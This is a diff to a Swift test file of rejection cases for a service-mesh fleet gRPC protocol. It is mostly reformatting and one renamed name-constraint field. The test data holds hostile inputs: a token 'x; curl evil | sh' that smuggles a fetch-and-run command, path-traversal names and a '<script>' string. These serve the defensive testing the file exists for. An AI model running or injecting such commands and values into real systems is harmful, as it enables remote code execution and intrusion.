@@ -3,6 +3,7 @@ import FleetProtos
 import Foundation
 import GRPCCore
 import Identity
+import Storage
 import SwiftProtobuf
 import TestSupport
 import X509
@@ -23,7 +24,9 @@ extension Attempt {
       try await stage.greet { $0.authorities = [] }
     },
     .stream("five authorities", "one to four authorities") { stage in
-      try await stage.greet { $0.authorities = Array(repeating: Data(stage.east.certificate), count: 5) }
+      try await stage.greet {
+        $0.authorities = Array(repeating: Data(stage.east.certificate), count: 5)
+      }
     },
     .stream("an authority that is no certificate", "cannot be read") { stage in
       try await stage.greet { $0.authorities = [Data([0x30, 0x00])] }
@@ -48,7 +51,7 @@ extension Attempt {
       NameConstraints(permittedURIDomains: [".acme.mesh"])),
     .authority(
       "an authority that excludes instead of permitting", "permits something else",
-      NameConstraints(excludedURIDomains: ["north.acme.mesh"])),
+      NameConstraints(forbiddenURIDomains: ["north.acme.mesh"])),
     .authority("an authority for authorities", "path length", east, pathLength: 1),
     .stream("a leaf for an authority", "not a certificate authority") { stage in
       let chain = try Forger(authority: stage.east, uris: [Stage.eastAgent]).chain()
@@ -112,19 +115,31 @@ extension Attempt {
     },
     .stream("an acknowledgement of what was never sent", "never sent") { stage in
       try await stage.say(
-        .acknowledgement(.with { $0.epoch = stage.fixture.store.epoch; $0.generation = 1000 }))
+        .acknowledgement(
+          .with {
+            $0.epoch = stage.fixture.store.epoch; $0.generation = 1000
+          }))
     },
     .stream("a negative acknowledgement", "negative") { stage in
       try await stage.say(
-        .acknowledgement(.with { $0.epoch = stage.fixture.store.epoch; $0.generation = -1 }))
+        .acknowledgement(
+          .with {
+            $0.epoch = stage.fixture.store.epoch; $0.generation = -1
+          }))
     },
     .stream("a report about a generation that is not", "does not exist") { stage in
       try await stage.say(
-        .propagation(.with { $0.epoch = stage.fixture.store.epoch; $0.generation = 1000 }))
+        .propagation(
+          .with {
+            $0.epoch = stage.fixture.store.epoch; $0.generation = 1000
+          }))
     },
     .stream("a report with a negative count", "negative") { stage in
       try await stage.say(
-        .propagation(.with { $0.epoch = stage.fixture.store.epoch; $0.told = -1 }))
+        .propagation(
+          .with {
+            $0.epoch = stage.fixture.store.epoch; $0.told = -1
+          }))
     },
     .inventory("a difference to nothing", "not complete") { $0.full = false },
     .inventory("a service of another cluster, by its path", "not made of labels") {
@@ -147,7 +162,11 @@ extension Attempt {
       $0.upserts = [Stage.service("orders\n")]
     },
     .inventory("the removal of a service by its path", "not made of labels") {
-      $0.removals = [.with { $0.namespace = "shop"; $0.name = "../../west/orders" }]
+      $0.removals = [
+        .with {
+          $0.namespace = "shop"; $0.name = "../../west/orders"
+        }
+      ]
     },
     .inventory("a port that is none", "is not one") {
       $0.upserts = [Stage.service("orders", port: 70_000)]
@@ -180,20 +199,35 @@ extension Attempt {
     },
     .stream("a rejection of what is no item", "names no item") { stage in
       try await stage.say(
-        .rejections(.with { $0.full = true; $0.upserts = [.with { $0.key = "clusters/west" }] }))
+        .rejections(
+          .with {
+            $0.full = true; $0.upserts = [.with { $0.key = "clusters/west" }]
+          }))
     },
     .stream("an inspection that is no JSON", "not JSON") { stage in
-      try await stage.say(.inspectAnswer(.with { $0.id = 1; $0.json = Data("<script>".utf8) }))
+      try await stage.say(
+        .inspectAnswer(
+          .with {
+            $0.id = 1; $0.json = Data("<script>".utf8)
+          }))
     },
     .stream("a token that is a command", "no token") { stage in
-      try await stage.say(.tokenAnswer(.with { $0.id = 1; $0.token = "x; curl evil | sh" }))
+      try await stage.say(
+        .tokenAnswer(
+          .with {
+            $0.id = 1; $0.token = "x; curl evil | sh"
+          }))
     },
     .stream("a token for another cluster", "no token") { stage in
       let token = JoinToken.Workload(
         id: "1", secret: JoinToken.newSecret(), cluster: "west", trustDomain: "west.acme.mesh",
         pin: stage.west.publicKeyHash)
       let text = JoinToken.workload(token).text
-      try await stage.say(.tokenAnswer(.with { $0.id = 1; $0.token = text }))
+      try await stage.say(
+        .tokenAnswer(
+          .with {
+            $0.id = 1; $0.token = text
+          }))
     },
     Attempt(
       "a second stream with the same certificate", .alreadyExists, "agent.duplicate",
